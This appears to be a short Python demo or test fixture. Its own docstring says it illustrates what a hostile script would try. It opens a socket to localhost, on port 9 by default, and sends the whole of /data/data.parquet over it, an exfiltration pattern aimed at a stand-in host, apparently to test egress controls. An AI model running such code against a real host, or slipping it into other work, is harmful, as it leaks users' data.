"""What a careless or hostile script would try: send the data out."""

import os
import socket

line = socket.create_connection(("127.0.0.1", int(os.environ.get("DEMO_PORT", "9"))), timeout=3)
with open("/data/data.parquet", "rb") as table:
    line.sendall(table.read())
